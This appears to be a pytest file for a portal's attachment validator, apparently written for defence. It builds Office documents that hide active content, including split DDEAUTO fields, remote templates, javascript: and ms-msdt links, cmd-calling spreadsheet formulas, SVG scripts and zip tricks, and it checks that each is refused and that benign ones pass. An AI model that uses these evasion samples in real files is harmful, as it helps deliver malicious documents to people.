"""Office documents with active content hidden by encodings, pieces, types or the archive. Each is refused."""

import codecs
import struct
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from portal.attachments.validators.file_content import check_content
from portal.attachments.validators.file_kinds import InvalidFile
from tests.attachments.samples import HYPERLINK, TYPES, archive, office

RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
TEMPLATE = b'<Relationship Id="a" Type="http://x/relationships/attachedTemplate" Target="%s" TargetMode="%s"/>'
TIE = b'<Relationship Id="a" Type="' + HYPERLINK + b'" Target="%s" TargetMode="External"/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'


def relations(*ties: bytes, encoding: str = "utf-8", mark: bytes = b"") -> bytes:
    part = (RELATIONS % b"".join(ties)).decode().encode(encoding)
    return office(word___rels__document_dot_xml_dot_rels=mark + part)


def link(target: str) -> bytes:
    return relations(TIE % target.encode())


def loads(element: str) -> bytes:
    """Returns a document in which the element uses the relationship of a hyperlink."""
    part = f'<d xmlns:r="{HYPERLINK.decode().removesuffix("/hyperlink")}" xmlns:a="a">{element}</d>'
    return archive(
        {
            "[Content_Types].xml": TYPES,
            "word/document.xml": part.encode(),
            "word/_rels/document.xml.rels": RELATIONS % (TIE % b"http://example.org/a.png"),
        }
    )


def word(body: str, encoding: str = "utf-8", declaration: str = "") -> bytes:
    part = f"{declaration}<w:document {W} {MC}><w:p>{body}</w:p></w:document>"
    return office(word__a_dot_xml=part.encode(encoding))


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(*pieces: str, name: str = "instrText") -> str:
    return "".join(f"<w:r><w:{name}>{piece}</w:{name}></w:r>" for piece in pieces)


def field(*pieces: str, inner: str = "") -> str:
    return mark("begin") + code(*pieces) + inner + mark("separate") + "<w:r><w:t>1</w:t></w:r>" + mark("end")


def sheet(inner: str) -> bytes:
    return office("xl/workbook.xml", xl__worksheets__a_dot_xml=f'<worksheet xmlns="{S}">{inner}</worksheet>'.encode())


def svg(inner: str) -> bytes:
    part = f'<s xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">{inner}</s>'
    return office(word__media__a_dot_svg=part.encode())


def types(*entries: str, **parts: bytes) -> bytes:
    content = TYPES.replace(b"/>", b">") + "".join(entries).encode() + b"</Types>"
    return archive({"[Content_Types].xml": content, "word/document.xml": b"<d/>"} | parts)


def override(part: str, media_type: str) -> str:
    return f'<Override PartName="{part}" ContentType="{media_type}"/>'


def twice(name: str, other: str) -> bytes:
    file = BytesIO(office())
    with ZipFile(file, "a", ZIP_DEFLATED) as packed:
        packed.writestr(name, b"<a/>")
        packed.writestr(other, b"<b/>")
    return file.getvalue()


DDE = field(" DDEAUTO cmd")
SAMPLE = office()
ATTACKS = {
    "template by a character reference": relations(TEMPLATE % (b"http://example.org/t", b"&#69;xternal")),
    "template with a sign in its address": relations(TEMPLATE % (b"http://example.org/?a>b", b"External")),
    "template in quotes of the other kind": relations((TEMPLATE % (b"http://a", b"External")).replace(b'"', b"'")),
    "template in UTF-16 without a mark": relations(TEMPLATE % (b"http://a", b"External"), encoding="utf-16-le"),
    "template in UTF-16 of the other order": relations(TEMPLATE % (b"http://a", b"External"), encoding="utf-16-be"),
    "template in UTF-16 with a mark": relations(TEMPLATE % (b"http://a", b"External"), encoding="utf-16"),
    "template in UTF-32": relations(TEMPLATE % (b"http://a", b"External"), encoding="utf-32"),
    "template without a mode": relations(TEMPLATE.replace(b' TargetMode="%s"', b"") % b"http://a"),
    "template in small letters": relations(TEMPLATE % (b"http://a", b"external ")),
    "picture from elsewhere": relations(b'<Relationship Type="a/image" Target="http://a" TargetMode="External"/>'),
    "link to a script": link("javascript:alert(1)"),
    "link to a script, spaced": link("java&#9;script:alert(1)"),
    "link to another machine": link("\\\\host\\share"),
    "link to a file": link("file:///c:/a.exe"),
    "link to a program": link("ms-msdt:/id"),
    "template hidden by an attribute of another namespace": relations(
        TEMPLATE.replace(b"/>", b' xmlns:x="x" x:Target="a.xml" x:Type="a/styles" x:TargetMode="Internal"/>')
        % (b"http://a", b"External")
    ),
    "template with the ending of another type": relations(
        TEMPLATE.replace(b"attachedTemplate", b"attachedTemplate#/hyperlink") % (b"http://a", b"External")
    ),
    **{
        f"{element} that loads the target of a link": loads(f'<a:{element} r:{name}="a"/>')
        for element, name in (
            ("blip", "link"),
            ("blip", "embed"),
            ("attachedTemplate", "id"),
            ("sourceFileName", "id"),
            ("imagedata", "href"),
            ("videoFile", "link"),
            ("address", "id"),
        )
    },
    "film of a web page": word('<w:webVideoPr embeddedHtml="&lt;iframe src=&quot;http://a&quot;/&gt;"/>'),
    **{
        f"picture from elsewhere by {name}": word(f'<w:{element} w:{name}="http://example.org/a.png"/>')
        for element, name in (("imagedata", "src"), ("imagedata", "href"), ("fill", "althref"), ("stroke", "src"))
    },
    "relations in an odd place": office(word__other_dot_xml=RELATIONS % (TEMPLATE % (b"http://a", b"External"))),
    "relations by another ending": office(word__other_dot_dat=RELATIONS % (TEMPLATE % (b"http://a", b"External"))),
    "field in pieces": word(field("D", "DE", "AUTO cmd")),
    "field in pieces of text": word(mark("begin") + code("D") + code("DE x", name="t") + mark("end")),
    "field in pieces over deleted text": word(
        mark("begin") + code("D") + "<w:del>" + code("X", name="delInstrText") + "</w:del>" + code("DE x") + mark("end")
    ),
    "field in pieces over inserted text": word(
        mark("begin") + code("D") + "<w:ins>" + code("X") + "</w:ins>" + code("DE x") + mark("end")
    ),
    "field in pieces over alternatives": word(
        mark("begin")
        + code("D")
        + "<mc:AlternateContent><mc:Choice>"
        + code("DE x")
        + "</mc:Choice></mc:AlternateContent>"
        + mark("end")
    ),
    "field over paragraphs": word(mark("begin") + code("DD") + "</w:p><w:p>" + code("E cmd") + mark("end")),
    "field in a field": word(field(" IF 1 = 1 ", inner=field("DDE", " cmd"))),
    "field whose name a field computes": word(mark("begin") + field(" QUOTE 68 68 69 ") + code(" cmd") + mark("end")),
    "field without an end": word(mark("begin") + code("DD", "E cmd")),
    "field without a beginning": word(code("DD", "E cmd")),
    "field by a character reference": word(field("&#68;DE cmd")),
    "field with a comment inside": word(field("D<!-- -->DE cmd")),
    "field in character data": word(field("<![CDATA[DD]]>E cmd")),
    "simple field": word('<w:fldSimple w:instr=" DDEAUTO cmd"/>'),
    "simple field hidden by an attribute of another namespace": word(
        '<w:fldSimple w:instr="DDE cmd" xmlns:x="x" x:instr="PAGE"/>'
    ),
    "simple field in quotes of the other kind": word("<w:fldSimple w:instr='&#x44;DE cmd'/>"),
    "field that includes a text": word(field(' INCLUDETEXT "http://example.org/a" ')),
    "field that includes a picture": word(field(' INCLUDEPICTURE "http://example.org/a.png" \\d ')),
    "field that includes a picture of another machine": word(field(' INCLUDEPICTURE "\\\\\\\\host\\\\a.png" ')),
    "field that links": word(field(" LINK Excel.Sheet.8 a.xls ")),
    "field that runs a macro": word(field(" MACROBUTTON Run Click here ")),
    "field with a script": word(field(' HYPERLINK "javascript:alert(1)" ')),
    "field in UTF-16": word(DDE, "utf-16"),
    "field in UTF-7": office(word__a_dot_xml=b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-b+AD4-</a>'),
    "field in EBCDIC": word(DDE, "cp500", '<?xml version="1.0" encoding="cp500"?>'),
    "field in UTF-16 that claims UTF-8": word(DDE, "utf-16-le", '<?xml version="1.0" encoding="utf-8"?>'),
    "field in XML 1.1": word(DDE, declaration='<?xml version="1.1"?>'),
    "entities": office(word__a_dot_xml=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "entities in UTF-16": office(word__a_dot_xml=codecs.BOM_UTF16_LE + "<!DOCTYPE a><a/>".encode("utf-16-le")),
    "outer entity": office(word__a_dot_xml=b'<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>'),
    "style sheet": office(word__a_dot_xml=b'<?xml-stylesheet href="http://a"?><a/>'),
    "broken part": office(word__a_dot_xml=b"<a><b></a>"),
    "deep part": office(word__a_dot_xml=b"<a>" * 5000 + b"</a>" * 5000),
    "other content": word('<w:altChunk w:id="a"/>'),
    "object": office(word__a_dot_xml=b'<a xmlns:o="urn:schemas-microsoft-com:office:office"><o:OLEObject/></a>'),
    "mail merge": word("<w:mailMerge/>"),
    "picture with a script": svg("<script>alert(1)</script>"),
    "picture with an event": svg('<g onload="alert(1)"/>'),
    "picture with a link to a script": svg('<a x:href="javascript:alert(1)"/>'),
    "picture with a picture from elsewhere": svg('<image x:href="http://example.org/a.png"/>'),
    "picture with a style from elsewhere": svg("<style>@import 'http://example.org'</style>"),
    "picture with a page": svg("<foreignObject/>"),
    "picture that is a program": office(word__media__a_dot_png=b"MZ\x90\0"),
    "picture that is an old document": office(word__media__a_dot_jpg=b"\xd0\xcf\x11\xe0"),
    "file of an unknown kind": office(word__a_dot_dat=b"x"),
    "macro by its type": types(override("/word/media/a.png", "application/vnd.ms-office.vbaProject")),
    "macros by the type of the document": types(
        override("/word/document.xml", "application/vnd.ms-word.document.macro&#69;nabled.main+xml")
    ),
    "template by its type": types(
        override(
            "/word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
        )
    ),
    "slides by their type": types(
        override("/word/a.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")
    ),
    "page by its type": types('<Default Extension="dat" ContentType="text/html"/>'),
    "XML by its type": types(override("/word/a.png", "application/xml"), **{"word/a.png": b"\xff\xfe<\0s\0"}),
    "one name in two cases": twice("word/a.xml", "WORD/A.xml"),
    "one name, escaped": twice("word/a.xml", "word/%61.xml"),
    "part in pieces": office(**{"word__a_dot_xml__[0]_dot_piece": b"<a/>"}),
    "gap between parts": SAMPLE[:-22] + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 2, 2, 10, 10, 0),
    "end of the large format": SAMPLE[:-22] + b"PK\x06\x07" + bytes(16) + SAMPLE[-22:],
    "other name in the part's own header": SAMPLE.replace(b"word/document.xml", b"word/vocument.xml", 1),
    "encrypted part": SAMPLE.replace(b"PK\3\4\x14\0\0\0", b"PK\3\4\x14\0\1\0"),
    "formula that calls a program": sheet("<f>cmd|'/c calc'!A0</f>"),
    "formula that calls a program, quoted": sheet("<f>'cmd'|'/c calc'!A0</f>"),
    "formula that calls a program, in pieces": sheet("<f>cmd<!-- -->|&#39;/c&#39;!A0</f>"),
    "formula that asks elsewhere": sheet('<f>_xlfn.WEBSERVICE ("http://example.org/"&amp;A1)</f>'),
    "formula with a link": sheet('<f>HYPERLINK("http://example.org/"&amp;A1,"x")</f>'),
    "formula with a second link": sheet('<f>HYPERLINK("#a")&amp;hyperlink("http://a")</f>'),
    "formula in a rule": sheet("<cfRule><formula>CALL(1)</formula></cfRule>"),
    "name that starts a macro": sheet('<definedName name="_xlnm.Auto_Open">a!$A$1</definedName>'),
    "name of a macro": sheet('<definedName name="a" xlm="1">a!$A$1</definedName>'),
    "other workbook": sheet("<externalLink/>"),
    "other program": sheet('<ddeLink ddeService="cmd"/>'),
    "connections": sheet("<connections/>"),
    "query": sheet("<queryTable/>"),
    "shape with a macro": sheet('<sp macro="[0]!Run"/>'),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_document_is_refused_with_a_message(name):
    with pytest.raises(InvalidFile, match=r"^[A-Z].*\.$"):
        check_content(ATTACKS[name])


MATH = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
HONEST = {
    "link": link("https://example.org/?a=1&amp;b=2"),
    "link by a click": loads('<a:hyperlink r:id="a"/><a:hlinkClick r:id="a"/><a:blip r:embed="b"/>'),
    "picture within": word('<w:imagedata w:src="a.png"/>'),
    "link to a mailbox": link("mailto:help@example.org"),
    "words about scripts": word("<w:r><w:t>javascript: and DDEAUTO and cmd|'x'!A0</w:t></w:r>"),
    "page number": word(field(" PAGE ")),
    "contents": word(
        field(' TOC \\o "1-3" \\h ', inner="") + field(' HYPERLINK \\l "_Toc1" ', inner=field("PAGEREF _Toc1"))
    ),
    "field in an instruction": word(mark("begin") + code(" IF ") + field(" PAGE ") + code(" = 1 ") + mark("end")),
    "field of a bibliography": word(field(' ADDIN ZOTERO_ITEM {"uri":"http://zotero.org/a"} ')),
    "empty field": word(field("")),
    "place to click": word(field(" MACROBUTTON NoMacro [Name] ")),
    "simple field": word('<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; "/>'),
    "formula of mathematics": office(word__a_dot_xml=f"<m:f {MATH}><m:t>P(A|B)</m:t></m:f>".encode()),
    "UTF-16": word("<w:r><w:t>é</w:t></w:r>", "utf-16", '<?xml version="1.0" encoding="UTF-16"?>'),
    "declared": word("", declaration='<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'),
    "SharePoint": office(customXml__item1_dot_xml=b"<?mso-contentType?><FormTemplates/>"),
    "picture": svg('<style>.a{fill:url(#b)}</style><image x:href="data:image/png;base64,AA=="/>'),
    "line": office(word__a_dot_vml=b'<v xmlns:o="o" o:oned="t" on="t" style="width:1pt"/>'),
    "types": types(
        override(
            "/word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        ),
        '<Default Extension="png" ContentType="image/png"/>',
    ),
    "ordinary formulas": sheet('<f>SUM(A1:A9)*IF(B1="a|b",VLOOKUP(A1,Other!A:B,2,FALSE),1)</f>'),
    "link within a workbook": sheet('<f>HYPERLINK("#Sheet2!A1","there")</f>'),
    "print area": sheet('<definedName name="_xlnm.Print_Area" localSheetId="0">Sheet1!$A$1:$C$9</definedName>'),
    "shape": sheet('<sp macro="" textlink=""/>'),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_document_is_accepted(name):
    assert check_content(HONEST[name]).name in ("DOCX", "XLSX")
